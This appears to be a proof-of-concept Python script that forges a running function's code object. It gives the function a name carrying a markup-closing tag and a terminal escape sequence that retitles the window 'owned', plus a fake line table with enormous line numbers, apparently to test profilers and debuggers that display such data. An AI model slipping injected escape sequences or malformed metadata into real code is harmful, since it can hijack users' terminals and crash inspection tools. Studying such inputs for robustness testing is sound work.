"""A Python program whose functions lie about themselves: lines of 2^40, names that are commands to a terminal."""

import sys


def varint(value):
    out = []
    while True:
        out.append(value & 63 | (64 if value > 63 else 0))
        value >>= 6
        if not value:
            return bytes(out)


def spin():
    while True:
        sum(range(1000))


def lie(code):
    changes = {"co_name": "x[/bold]\x1b]0;owned\x07"}
    if sys.version_info >= (3, 11):
        step = bytes([0x80 | 13 << 3 | 7]) + varint(1 << 41)
        changes |= {"co_qualname": changes["co_name"], "co_linetable": step * (len(code.co_code) // 16 + 1)}
    return code.replace(**changes)


spin.__code__ = lie(spin.__code__)
print("ready", flush=True)
spin()
